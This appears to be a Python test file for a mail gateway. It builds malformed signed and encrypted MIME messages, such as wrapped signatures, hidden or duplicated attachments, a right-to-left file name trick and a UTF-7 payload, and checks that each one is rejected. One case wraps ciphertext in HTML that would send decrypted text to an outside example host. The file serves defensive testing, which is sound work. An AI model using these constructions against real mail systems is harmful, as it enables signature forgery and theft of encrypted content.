"""What is signed is not what is read: parts wrapped, moved, hidden and added."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

from gateway.domain.mail import Protection
from gateway.domain.stops import Reason
from tests.mails.faults import fault
from tests.mails.scene import Scene, Who

if TYPE_CHECKING:
    from tests.mails.openpgp import OpenPGP

WHOLE = "opening: one signature over the whole inner entity"
DOCUMENT = "checking: one document, as an attachment"


def multipart(kind: str, *parts: bytes, more: str = "") -> bytes:
    """An entity of these."""
    line = b"--=_around"
    body = b"".join(line + b"\r\n" + part + b"\r\n" for part in parts)
    return f'Content-Type: multipart/{kind}; boundary="=_around"{more}\r\n\r\n'.encode() + (
        body + line + b"--\r\n"
    )


def leaf(content: bytes, media_type: str, *fields: str) -> bytes:
    """A part in base64."""
    head = [f"Content-Type: {media_type}", "Content-Transfer-Encoding: base64", *fields, ""]
    return "\r\n".join([*head, ""]).encode() + base64.encodebytes(content).replace(b"\n", b"\r\n")


def document(scene: Scene, name: str = "bijsluiter.json") -> bytes:
    """The report as a part."""
    disposition = f'Content-Disposition: attachment; filename="{name}"'
    return leaf(scene.document(), "application/json", disposition)


def message(part: bytes) -> bytes:
    """As a forwarded mail."""
    fields = b"From: Saar Proefdocent <saar@taalschool.example>\r\nSubject: Voortgang\r\n"
    return b"Content-Type: message/rfc822\r\n\r\n" + fields + part


TEXT = b"Content-Type: text/plain\r\n\r\nZie bijlage.\r\n"


def wrapped(kind: str) -> None:
    """A signed part inside an unsigned multipart of this kind."""

    @fault(
        f"signed-part-in-{kind}",
        f"a signed part inside an unsigned multipart/{kind}",
        Reason.NOT_SIGNED,
        stopped=WHOLE,
    )
    def made(scene: Scene) -> bytes:
        part = scene.signed_part(scene.inner())
        return scene.mail(scene.sealed(multipart(kind, part, TEXT)))


for kind in ("mixed", "related", "alternative", "parallel"):
    wrapped(kind)


@fault("signed-part-forwarded", "a signed mail as message/rfc822", Reason.NOT_SIGNED, stopped=WHOLE)
def signed_part_forwarded(scene: Scene) -> bytes:
    return scene.mail(scene.sealed(message(scene.signed_part(scene.inner()))))


@fault(
    "signed-part-attached",
    "a signed mail as attachment to an unsigned one",
    Reason.NOT_SIGNED,
    stopped=WHOLE,
)
def signed_part_attached(scene: Scene) -> bytes:
    part = message(scene.signed_part(scene.inner()))
    return scene.mail(scene.sealed(multipart("mixed", TEXT, part)))


@fault(
    "signed-attachment",
    "a signed attachment beside an unsigned document",
    Reason.NOT_SIGNED,
    stopped=WHOLE,
)
def signed_attachment(scene: Scene) -> bytes:
    part = scene.signed_part(TEXT)
    return scene.mail(scene.sealed(multipart("mixed", document(scene), part)))


@fault(
    "several-signed-parts", "two signed parts beside each other", Reason.NOT_SIGNED, stopped=WHOLE
)
def several_signed_parts(scene: Scene) -> bytes:
    both = (scene.signed_part(scene.inner()), scene.signed_part(TEXT, Who.COLLEAGUE))
    return scene.mail(scene.sealed(multipart("mixed", *both)))


@fault(
    "signed-text-only",
    "the signature over the text, the document outside it",
    Reason.NOT_SIGNED,
    stopped=WHOLE,
)
def signed_text_only(scene: Scene) -> bytes:
    part = scene.signed_part(TEXT)
    return scene.mail(scene.sealed(multipart("mixed", part, document(scene))))


@fault(
    "signed-three-parts",
    "a third part within the multipart/signed",
    Reason.MALFORMED,
    stopped="reading: a multipart/signed has two parts",
    only=Protection.OPENPGP,
)
def signed_three_parts(scene: Scene) -> bytes:
    part = scene.signed_part(scene.inner())
    line = part[part.rindex(b"\r\n--") + 2 :].strip().removesuffix(b"--")
    end = line + b"--"
    more = part.replace(end, line + b"\r\n" + document(scene) + b"\r\n" + end)
    return scene.mail(scene.sealed(more))


@fault(
    "forwarded-message",
    "everything signed, and the document inside a message/rfc822",
    Reason.NO_DOCUMENT,
    stopped=DOCUMENT,
)
def forwarded_message(scene: Scene) -> bytes:
    return scene.mail(scene.sealed(message(scene.inner()), Who.SENDER))


@fault(
    "document-in-html",
    "the document hidden in an HTML body",
    Reason.NO_DOCUMENT,
    stopped="checking: bodies are not read",
)
def document_in_html(scene: Scene) -> bytes:
    hidden = b'<p>Zie bijlage.</p><div style="display:none">' + scene.document() + b"</div>"
    return scene.mail(scene.sealed(leaf(hidden, "text/html"), Who.SENDER))


@fault(
    "document-in-text",
    "the document as the text of the mail",
    Reason.NO_DOCUMENT,
    stopped="checking: bodies are not read",
)
def document_in_text(scene: Scene) -> bytes:
    return scene.mail(scene.sealed(leaf(scene.document(), "text/plain"), Who.SENDER))


@fault(
    "document-in-other-charset",
    "the document in UTF-7",
    Reason.NOT_JSON,
    stopped="checking: JSON is UTF-8",
)
def document_in_other_charset(scene: Scene) -> bytes:
    content = scene.document().decode().encode("utf-7").replace(b"{", b"+AHs-")
    part = leaf(content, "application/json; charset=utf-7", "Content-Disposition: attachment")
    return scene.mail(scene.sealed(multipart("mixed", TEXT, part), Who.SENDER))


@fault(
    "document-elsewhere",
    "the document by reference to another server",
    Reason.NO_DOCUMENT,
    stopped="checking: nothing is fetched",
)
def document_elsewhere(scene: Scene) -> bytes:
    part = (
        b"Content-Type: message/external-body; access-type=URL;"
        b' URL="https://elders.example/bijsluiter.json"\r\n\r\n'
        b"Content-Type: application/json\r\n\r\n"
    )
    return scene.mail(scene.sealed(multipart("mixed", TEXT, part), Who.SENDER))


@fault(
    "cid-document",
    "an HTML body that shows one document by Content-ID, and another beside it",
    Reason.SEVERAL_DOCUMENTS,
    stopped=DOCUMENT,
)
def cid_document(scene: Scene) -> bytes:
    page = leaf(b'<iframe src="cid:een@x.example"></iframe>', "text/html")
    shown = leaf(scene.document(), "application/json", "Content-ID: <een@x.example>")
    related = multipart("related", page, shown, document(scene))
    return scene.mail(scene.sealed(related, Who.SENDER))


@fault(
    "same-cid-twice",
    "two documents with one Content-ID",
    Reason.SEVERAL_DOCUMENTS,
    stopped=DOCUMENT,
)
def same_cid_twice(scene: Scene) -> bytes:
    parts = [
        leaf(scene.document(), "application/json", "Content-ID: <een@x.example>") for _ in "12"
    ]
    return scene.mail(scene.sealed(multipart("related", *parts), Who.SENDER))


@fault(
    "alternative-documents",
    "two documents as alternatives, of which a reader picks one",
    Reason.SEVERAL_DOCUMENTS,
    stopped=DOCUMENT,
)
def alternative_documents(scene: Scene) -> bytes:
    both = multipart("alternative", document(scene), document(scene))
    return scene.mail(scene.sealed(both, Who.SENDER))


@fault("document-twice", "the document twice", Reason.SEVERAL_DOCUMENTS, stopped=DOCUMENT)
def document_twice(scene: Scene) -> bytes:
    part = document(scene)
    return scene.mail(scene.sealed(multipart("mixed", part, part), Who.SENDER))


@fault(
    "document-name-hides-kind",
    "a name that shows as .pdf and is .json, and another document",
    Reason.SEVERAL_DOCUMENTS,
    stopped=DOCUMENT,
)
def document_name_hides_kind(scene: Scene) -> bytes:
    hidden = leaf(
        scene.document(),
        "application/octet-stream",
        "Content-Disposition: attachment; filename*=utf-8''fdp.%E2%80%AEbijsluiter.json",
    )
    return scene.mail(scene.sealed(multipart("mixed", document(scene), hidden), Who.SENDER))


@fault(
    "encrypted-below-root",
    "the encrypted part below a multipart/mixed, alone",
    Reason.PARTLY_ENCRYPTED,
    stopped="reading: encryption at the root",
)
def encrypted_below_root(scene: Scene) -> bytes:
    return scene.mail(multipart("mixed", scene.sealed(scene.inner(), Who.SENDER)))


@fault(
    "cleartext-before",
    "clear text before the encrypted part",
    Reason.PARTLY_ENCRYPTED,
    stopped="reading: encryption at the root",
)
def cleartext_before(scene: Scene) -> bytes:
    sealed = scene.sealed(scene.inner(), Who.SENDER)
    return scene.mail(multipart("mixed", TEXT, sealed))


@fault(
    "cleartext-after",
    "a mailing list's footer after the encrypted part",
    Reason.PARTLY_ENCRYPTED,
    stopped="reading: encryption at the root",
)
def cleartext_after(scene: Scene) -> bytes:
    sealed = scene.sealed(scene.inner(), Who.SENDER)
    return scene.mail(multipart("mixed", sealed, TEXT))


@fault(
    "cleartext-document-beside",
    "an unencrypted document beside the encrypted one",
    Reason.PARTLY_ENCRYPTED,
    stopped="reading: encryption at the root",
)
def cleartext_document_beside(scene: Scene) -> bytes:
    sealed = scene.sealed(scene.inner(), Who.SENDER)
    return scene.mail(multipart("mixed", document(scene), sealed))


@fault(
    "several-encrypted-parts",
    "two encrypted parts",
    Reason.PARTLY_ENCRYPTED,
    stopped="reading: encryption at the root",
)
def several_encrypted_parts(scene: Scene) -> bytes:
    both = [scene.sealed(scene.inner(), Who.SENDER) for _ in "12"]
    return scene.mail(multipart("mixed", *both))


@fault(
    "encrypted-in-html",
    "HTML around the encrypted part that would send its text out",
    Reason.PARTLY_ENCRYPTED,
    stopped="reading: encryption at the root",
)
def encrypted_in_html(scene: Scene) -> bytes:
    opens = leaf(b'<img src="https://elders.example/?', "text/html")
    closes = leaf(b'">', "text/html")
    sealed = scene.sealed(scene.inner(), Who.SENDER)
    return scene.mail(multipart("mixed", opens, sealed, closes))


@fault(
    "encrypted-forwarded",
    "an encrypted mail as message/rfc822",
    Reason.PARTLY_ENCRYPTED,
    stopped="reading: encryption at the root",
    only=Protection.OPENPGP,
)
def encrypted_forwarded(scene: Scene) -> bytes:
    return scene.mail(message(scene.sealed(scene.inner(), Who.SENDER)))


@fault(
    "encrypted-attached",
    "the ciphertext as an attachment",
    Reason.PARTLY_ENCRYPTED,
    stopped="reading: encryption at the root",
    only=Protection.OPENPGP,
)
def encrypted_attached(scene: OpenPGP) -> bytes:
    part = leaf(scene.message(scene.inner(), Who.SENDER), "application/octet-stream")
    return scene.mail(multipart("mixed", TEXT, part))
